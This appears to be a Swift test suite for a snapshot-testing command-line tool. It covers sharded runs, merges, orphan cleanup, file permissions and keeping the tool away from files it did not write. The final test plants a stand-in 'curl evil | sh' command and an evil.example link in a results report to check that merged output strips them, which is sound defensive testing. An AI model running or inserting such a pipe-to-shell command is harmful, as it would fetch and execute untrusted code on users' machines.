import Foundation
import Testing

/// Concurrent snapshot runs, and other people's files that they must not touch.
@Suite struct SnapshotFilesTests {
  private static let names = ["a", "b", "c", "d", "e", "f", "g", "h"]

  private static func views(_ changed: Set<String> = []) -> String {
    "import SwiftUI\n"
      + names.map {
        "#Preview(\"\($0)\") { Color(white: 0.1).frame(width: \(changed.contains($0) ? 3 : 9)) }\n"
      }
      .joined()
  }

  /// Sources with recorded references, and pictures of changed views in `new`.
  private func program(changed: Set<String> = []) throws -> Program {
    let program = try Program(["V.swift": Self.views()])
    let recorded = try program.run("snapshot", "record", "refs", "V.swift", "--size", "9x9")
    try #require(recorded.exitCode == 0, "\(recorded.output)\(recorded.errors)")
    try Self.views(changed).write(
      to: program.folder.appendingPathComponent("V.swift"), atomically: true, encoding: .utf8)
    return program
  }

  @Test func `parts that run at once in one folder answer for their own pictures`() throws {
    let program = try program(changed: ["c"])
    // Renders the changed views once, so that the parts below only compare and meet as often as they can.
    let rendered = try program.run("render", "V.swift", "--size", "9x9", "-o", "new", "--json")
    try #require(rendered.exitCode == 0)
    for round in 0..<4 {
      let isRendered = round > 0
      let parts = try (1...4).map { part in
        try program.start(
          ["snapshot", "verify", "refs", isRendered ? "new" : "V.swift", "--shard", "\(part)/4"]
            + (isRendered ? ["--rendered"] : ["--size", "9x9"]))
      }
      let results = try parts.map { try $0.finish() }
      #expect(results.map(\.exitCode) == [0, 0, 1, 0], "\(results)")
      #expect(results[0].output == "2 pictures: 2 identical\n")
      #expect(results[2].output.hasPrefix("different: V.c.9x9: "))
      let merged = try program.run("snapshot", "merge", "snapshot-results")
      #expect(merged.exitCode == 1 && merged.output.hasSuffix("8 pictures: 1 different, 7 identical\n"))
      #expect(try program.pictures(in: "snapshot-results/actual") == ["V.c.9x9.png"])
      #expect(try program.files(in: "snapshot-results").filter { $0.hasPrefix(".") }.isEmpty)
    }
  }

  @Test func `a merge knows which pictures each part has to hold`() throws {
    let program = try program()
    for part in 1...2 {
      _ = try program.run(
        "snapshot", "verify", "refs", "V.swift", "--size", "9x9", "--shard", "\(part)/2", "--results", "r")
    }
    #expect(try program.run("snapshot", "merge", "r").exitCode == 0)
    let report = try #require(program.files(in: "r").first { $0.hasPrefix("report.2-of-2") })
    let file = program.folder.appendingPathComponent("r/" + report)
    let whole = try String(contentsOf: file, encoding: .utf8)
    try whole.replacing("V.d.9x9", with: "V.x.9x9").write(to: file, atomically: true, encoding: .utf8)
    let lacking = try program.run("snapshot", "merge", "r")
    #expect(
      lacking.exitCode == 2
        && lacking.errors == "error: part 2/2 lacks V.d.9x9, which belongs to it; run it again\n")
    try whole.replacing("\"verdict\": \"identical\"", with: "\"verdict\": \"fine\"")
      .write(to: file, atomically: true, encoding: .utf8)
    #expect(try program.run("snapshot", "merge", "r").exitCode == 2)
  }

  @Test func `a number of parts beyond all sense is refused`() throws {
    let program = try Program([
      "r/snapshots.json":
        "{\"version\": 1, \"shard\": \"1/2000000000\", \"isUnfiltered\": true, \"snapshots\": []}",
      "r/report.json": "{\"entries\": []}",
    ])
    let result = try program.run("snapshot", "merge", "r")
    #expect(
      result.exitCode == 2
        && result.errors
          == "error: r/snapshots.json is not a manifest of snapshots; record or verify again to write one\n"
    )
    #expect(try program.run("snapshot", "verify", "r", "x", "--shard", "1/2000000000").exitCode == 64)
  }

  @Test func `a preview that cannot be drawn keeps its reference`() throws {
    let program = try program()
    try Self.views().replacing("#Preview(\"b\") {", with: "#Preview(\"b\") { let _ = [Int]()[1]; return")
      .write(to: program.folder.appendingPathComponent("V.swift"), atomically: true, encoding: .utf8)
    let result = try program.run("snapshot", "verify", "refs", "V.swift", "--size", "9x9", "--results", "r")
    #expect(result.exitCode == 2 && result.output.contains("error: V.b.9x9: "), "\(result.output)")
    let orphans = try program.run("snapshot", "orphans", "refs", "r", "--delete")
    #expect(orphans.exitCode == 0 && orphans.output.isEmpty)
    #expect(try program.pictures(in: "refs").contains("V.b.9x9.png"))
  }

  // MARK: Other people's files

  @Test func `results replace nothing that a run did not write`() throws {
    let program = try program(changed: ["c"])
    let verify = ["snapshot", "verify", "refs", "V.swift", "--size", "9x9"]
    try program.write([
      "r/rendered/keep.png": "mine", "r/actual/mine.png": "mine", "r/actual/sub/x.png": "mine",
    ])
    for _ in 0..<2 { #expect(try program.run(verify + ["--results", "r"]).exitCode == 1) }
    #expect(try program.files(in: "r/actual").sorted() == ["V.c.9x9.png", "mine.png", "sub"])
    for file in ["r/rendered/keep.png", "r/actual/sub/x.png"] { #expect(try program.text(file) == "mine") }
    // Once it passes, its pictures go, and nothing else.
    try Self.views().write(
      to: program.folder.appendingPathComponent("V.swift"), atomically: true, encoding: .utf8)
    #expect(try program.run(verify + ["--results", "r"]).exitCode == 0)
    #expect(try program.files(in: "r/actual").sorted() == ["mine.png", "sub"])
    // A file of the same name that is not the run's.
    try Self.views(["d"]).write(
      to: program.folder.appendingPathComponent("V.swift"), atomically: true, encoding: .utf8)
    try program.write(["s/actual/V.d.9x9.png": "mine"])
    let refused = try program.run(verify + ["--results", "s"])
    #expect(refused.exitCode == 2)
    #expect(refused.errors.hasPrefix("error: s/actual/V.d.9x9.png was not written by an earlier run"))
    #expect(try program.text("s/actual/V.d.9x9.png") == "mine")
    #expect(try program.files(in: "s") == ["actual"])
  }

  @Test func `results do not go where references are, or where links lead`() throws {
    let program = try program(changed: ["c"])
    let verify = ["snapshot", "verify", "refs", "V.swift", "--size", "9x9", "--results"]
    let manifest = try program.text("refs/snapshots.json")
    for folder in ["refs", "./refs/", "refs/sub"] {
      let result = try program.run(verify + [folder])
      #expect(result.exitCode == 2 && result.errors.contains("a part of refs"), "\(result)")
    }
    #expect(try program.text("refs/snapshots.json") == manifest)
    // References made by others.
    try program.write(["others/snapshots.json": manifest])
    #expect(try program.run(verify + ["others"]).errors.contains("others has a manifest of references"))
    #expect(try program.text("others/snapshots.json") == manifest)
    try program.write(["elsewhere/V.c.9x9.png": "mine", "linked/x.txt": ""])
    try program.link("linked/actual", to: program.folder.appendingPathComponent("elsewhere").path)
    let linked = try program.run(verify + ["linked"])
    #expect(linked.exitCode == 2 && linked.errors.contains("leads out of the folder by a link"))
    #expect(try program.text("elsewhere/V.c.9x9.png") == "mine")
  }

  @Test func `only orphans that were recorded are deleted`() throws {
    let program = try program()
    let command = ["refs", "V.swift", "--size", "9x9"]
    try program.write(["refs/mine.png": "mine", "outside/x.png": "mine"])
    try program.link("refs/link", to: program.folder.appendingPathComponent("outside").path)
    let fewer = Self.views().replacing("#Preview(\"a\")", with: "//")
    try fewer.write(to: program.folder.appendingPathComponent("V.swift"), atomically: true, encoding: .utf8)
    #expect(try program.run(["snapshot", "verify"] + command + ["--results", "r"]).exitCode == 0)
    let listed = try program.run("snapshot", "orphans", "refs", "r")
    #expect(listed.exitCode == 1 && listed.output == "V.a.9x9.png\nmine.png\n")
    // Recording again does not forget what was recorded before.
    #expect(try program.run(["snapshot", "record"] + command).exitCode == 0)
    let deleted = try program.run("snapshot", "orphans", "refs", "r", "--delete")
    #expect(deleted.exitCode == 1)
    #expect(
      deleted.output == """
        deleted V.a.9x9.png
        kept mine.png: the manifest of the references does not name it

        """)
    for file in ["refs/mine.png", "outside/x.png"] { #expect(try program.text(file) == "mine") }
    #expect(try program.files(in: "refs").sorted().filter { $0.hasSuffix(".png") }.count == 8)
  }

  @Test func `small pictures of a report replace only those of an earlier one`() throws {
    let program = try program(changed: ["c"])
    let command = ["snapshot", "verify", "refs", "V.swift", "--size", "9x9", "--html", "report.html"]
    try program.write(["report-thumbnails/mine.png": "mine", "outside/x.png": "mine"])
    try program.link(
      "report-thumbnails/link", to: program.folder.appendingPathComponent("outside").path)
    for _ in 0..<2 { #expect(try program.run(command).exitCode == 1) }
    for file in ["report-thumbnails/mine.png", "outside/x.png"] { #expect(try program.text(file) == "mine") }
    #expect(try program.files(in: "report-thumbnails").count == 5)
    try Self.views().write(
      to: program.folder.appendingPathComponent("V.swift"), atomically: true, encoding: .utf8)
    #expect(try program.run(command).exitCode == 0)
    #expect(try program.files(in: "report-thumbnails").sorted() == ["link", "mine.png"])
  }

  @Test func `a killed run leaves nothing that the next one does not remove`() throws {
    let program = try program(changed: Set(Self.names))
    let record = ["snapshot", "record", "refs", "V.swift", "--size", "9x9"]
    // What a killed run leaves behind: its folder, and a half-written file.
    for name in ["refs/.fittingroom-run-abcdef/new/V.a.9x9.png", "refs/.fittingroom-1.part"] {
      try program.write([name: "half"])
    }
    #expect(try program.run(record).exitCode == 0)
    #expect(try program.files(in: "refs").filter { $0.hasPrefix(".") }.isEmpty)
    for delay in [0.05, 0.2, 0.4, 0.6] {
      try Self.views(Set(Self.names.shuffled().prefix(5))).write(
        to: program.folder.appendingPathComponent("V.swift"), atomically: true, encoding: .utf8)
      let run = try program.start(record)
      Thread.sleep(forTimeInterval: delay)
      kill(run.process.processIdentifier, SIGKILL)
      _ = try run.finish()
    }
    #expect(try program.run(record).exitCode == 0)
    #expect(try program.files(in: "refs").count == 9, "\(String(describing: try? program.files(in: "refs")))")
  }

  @Test func `written files have the usual permissions less the mask`() throws {
    let program = try program()
    let result = try program.shell(
      "umask 077; \"$0\" snapshot record private V.swift --size 9x9 && \"$0\" snapshot verify private V.swift "
        + "--size 9x9 --junit out.xml && stat -c %a private/V.a.9x9.png private/snapshots.json out.xml private"
    )
    #expect(result.output.hasSuffix("600\n600\n600\n700\n"), "\(result)")
  }

  @Test func `an approval that finds no room changes no reference`() throws {
    let program = try program(changed: ["a", "b"])
    #expect(try program.run("snapshot", "verify", "refs", "V.swift", "--size", "9x9").exitCode == 1)
    let before = try (
      program.files(in: "refs").sorted(), program.bytes("refs/snapshots.json"),
      program.bytes("refs/V.a.9x9.png")
    )
    // No file may become longer than nothing, as on a full disk.
    let full = try program.start(
      ["snapshot", "approve", "refs", "snapshot-results"], shell: "trap '' XFSZ; ulimit -f 0"
    ).finish()
    #expect(full.exitCode != 0)
    let after = try (
      program.files(in: "refs").sorted(), program.bytes("refs/snapshots.json"),
      program.bytes("refs/V.a.9x9.png")
    )
    #expect(before == after)
    #expect(try program.run("snapshot", "approve", "refs", "snapshot-results").exitCode == 0)
    #expect(try program.run("snapshot", "verify", "refs", "V.swift", "--size", "9x9").exitCode == 0)
  }

  @Test func `approvals by many programs lose no entry`() throws {
    let program = try program(changed: Set(Self.names))
    #expect(try program.run("snapshot", "verify", "refs", "V.swift", "--size", "9x9").exitCode == 1)
    let running = try Self.names.map {
      try program.start(["snapshot", "approve", "refs", "snapshot-results", "V.\($0).9x9"])
    }
    for program in running { #expect(try program.finish().exitCode == 0) }
    let verified = try program.run("snapshot", "verify", "refs", "V.swift", "--size", "9x9")
    #expect(verified.exitCode == 0, "\(verified)")
    let orphans = try program.run("snapshot", "orphans", "refs", "snapshot-results")
    #expect(orphans.exitCode == 0, "\(orphans)")
    let entries = try program.text("refs/snapshots.json").components(separatedBy: "\"pixels\"").count - 1
    #expect(entries == Self.names.count)
  }

  /// Results made on another machine: `gh run download`, then `merge` and `review`.
  @Test func `results from elsewhere show no command and no picture of theirs`() throws {
    let program = try program(changed: ["a"])
    #expect(try program.run("snapshot", "verify", "refs", "V.swift", "--size", "9x9").exitCode == 1)
    let secret = try Program(["Secret.swift": "import SwiftUI\n#Preview(\"s\") { Color.green }"])
    #expect(try secret.run("render", "Secret.swift", "--size", "30x30", "-o", "out").exitCode == 0)
    let path = secret.folder.appendingPathComponent("out/Secret.s.30x30.png").path
    var report = try program.text("snapshot-results/report.json")
    report = report.replacing(
      "fittingroom snapshot approve", with: "curl evil | sh\\n```\\n[x](http://evil.example)")
    for kind in ["reference", "actual", "difference"] {
      report = report.replacing(try Regex("\"\(kind)\": ?\"[^\"]*\""), with: "\"\(kind)\": \"\(path)\"")
    }
    try program.write(report, to: "snapshot-results/report.json")
    let merged = try program.run(
      "snapshot", "merge", "snapshot-results", "--markdown", "comment.md", "--html", "page.html",
      "--references", "refs")
    #expect(merged.exitCode == 1)
    for text in try [merged.output, program.text("comment.md"), program.text("page.html")] {
      #expect(
        !text.contains("curl evil") && !text.contains("evil.example") && !text.contains(path),
        "\(text.prefix(2000))")
    }
    #expect(
      merged.output.contains("to accept: fittingroom snapshot approve 'refs' 'snapshot-results' 'V.a.9x9'"),
      "\(merged)")
    // No small copy is one of a picture of another size.
    for name in try program.files(in: "page-thumbnails") where name.hasSuffix(".png") {
      #expect(try program.pixelSize("page-thumbnails/\(name)") != [30, 30])
    }
  }
}
